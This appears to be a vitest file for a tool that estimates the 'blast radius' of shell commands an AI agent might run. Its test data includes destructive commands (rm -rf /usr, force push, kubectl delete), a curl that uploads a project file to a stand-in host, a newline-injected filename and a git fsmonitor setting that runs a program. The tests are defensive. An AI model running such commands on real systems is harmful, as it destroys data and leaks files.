import { spawnSync } from 'node:child_process'
import { mkdirSync, mkdtempSync, rmSync, symlinkSync, utimesSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { understand } from '../../analysis/understand.ts'
import { hostFacts } from '../../facts/host.ts'
import { createTools } from '../../tools/registry.ts'
import { radiusOf } from './blast-radius.ts'

let home: string
let project: string
const TOOLS = createTools()
/** What is counted, and not how fast a busy machine starts git. */
const PATIENT_MS = 30_000
const LONG_AGO = new Date('2020-01-02T03:04:05Z')

beforeAll(() => {
  home = mkdtempSync(join(tmpdir(), 'irongate-radius-'))
  project = join(home, 'project')
  for (const folder of ['src', 'build/deep', 'mixed', 'many']) mkdirSync(join(project, folder), { recursive: true })
  const file = (path: string, text: string) => writeFileSync(join(project, path), text)
  file('src/a.ts', '12345')
  file('src/b.ts', '67890')
  file('build/one.log', 'x'.repeat(1000))
  file('build/deep/two.log', 'x'.repeat(500))
  file('mixed/tracked', 'x')
  file('a b\n"c".txt', 'hostile')
  for (let number = 0; number < 300; number++) file(`many/${number}.tmp`, '')
  utimesSync(join(project, 'build/one.log'), LONG_AGO, LONG_AGO)
  utimesSync(join(project, 'build/deep/two.log'), LONG_AGO, LONG_AGO)
  // A link out of the folder, and one in a circle: neither is followed.
  mkdirSync(join(home, 'outside'))
  writeFileSync(join(home, 'outside/large'), 'x'.repeat(100_000))
  symlinkSync(join(home, 'outside'), join(project, 'build/link'))
  symlinkSync('..', join(project, 'build/deep/circle'))
  const git = (...args: string[]) =>
    spawnSync('git', ['-C', project, '-c', 'user.name=t', '-c', 'user.email=t@t', ...args])
  git('init', '--quiet')
  git('add', 'src', 'mixed')
  git('commit', '--quiet', '-m', 'one')
  file('mixed/new', 'x')
})
afterAll(() => rmSync(home, { recursive: true, force: true }))

function radius(command: string) {
  const facts = hostFacts({ cwd: project, home })
  const call = { tool: 'Bash', input: { command }, cwd: project, sessionId: 's' }
  return radiusOf(understand(call, TOOLS.find('Bash', call.input), facts, { wrappers: [] }), facts, PATIENT_MS)
}

const at = (path: string) => join(project, path)

describe('the blast radius', () => {
  it.each<[string, () => object]>([
    [
      'rm -rf build',
      () => ({ what: 'delete', target: at('build'), files: 4, tracked: 'none', changed: expect.any(Number) }),
    ],
    ['rm -rf src', () => ({ what: 'delete', target: at('src'), files: 2, bytes: 10, tracked: 'all' })],
    ['rm -rf mixed', () => ({ what: 'delete', target: at('mixed'), files: 2, tracked: 'some' })],
    ['rm -f many/*.tmp', () => ({ what: 'delete', files: 300, tracked: 'unknown' })],
    ['cd build && rm -f *.log', () => ({ what: 'delete', files: 1, bytes: 1000, tracked: 'none' })],
    ['rm -f "$X"/*.tmp', () => ({ what: 'delete', more: true })],
    ['rm -f build/one.log', () => ({ what: 'delete', files: 1, bytes: 1000, changed: LONG_AGO.getTime() })],
    ['rm -rf gone', () => ({ what: 'delete', target: at('gone'), files: 0 })],
    ['echo x > src/a.ts', () => ({ what: 'change', target: at('src/a.ts'), files: 1, tracked: 'all' })],
    ['echo x > fresh.ts', () => ({ what: 'create', target: at('fresh.ts') })],
    ['git push --force origin main', () => ({ what: 'send' })],
    ['curl -d @src/a.ts https://x.example/u', () => ({ what: 'send' })],
    ['kubectl delete deploy api -n prod', () => ({ what: 'delete' })],
  ])('%s', async (command, expected) => {
    expect(await radius(command)).toContainEqual(expect.objectContaining(expected()))
  })

  it('does not follow links, nor count what they lead to', async () => {
    const [row] = await radius('rm -rf build')
    expect(row?.bytes).toBeLessThan(2000)
  })

  it('names are one line, whatever they hold', async () => {
    const [row] = await radius('rm -f \'a b\n"c".txt\'')
    expect(row?.target).not.toContain('\n')
  })

  it('only looks: nothing for a command that reads', async () => {
    expect(await radius('ls -la src && cat src/a.ts')).toEqual([])
  })

  it('is done in time, and says that it did not count everything', async () => {
    const start = performance.now()
    const rows = await radius('rm -rf /usr')
    expect(performance.now() - start).toBeLessThan(3000)
    expect(rows[0]).toMatchObject({ what: 'delete', target: '/usr', more: true })
  })

  it('a repository whose settings run programs is not asked', async () => {
    const ran = join(home, 'ran')
    const other = join(home, 'other')
    spawnSync('git', ['init', '--quiet', other])
    writeFileSync(join(other, 'f'), 'x')
    spawnSync('git', ['-C', other, 'config', 'core.fsmonitor', `touch ${ran}; false`])
    const facts = hostFacts({ cwd: other, home })
    const call = { tool: 'Bash', input: { command: 'rm f' }, cwd: other, sessionId: 's' }
    const rows = await radiusOf(understand(call, TOOLS.find('Bash', call.input), facts, { wrappers: [] }), facts)
    expect(rows[0]).toMatchObject({ tracked: 'unknown' })
    expect(spawnSync('ls', [ran]).status).not.toBe(0)
  })
})
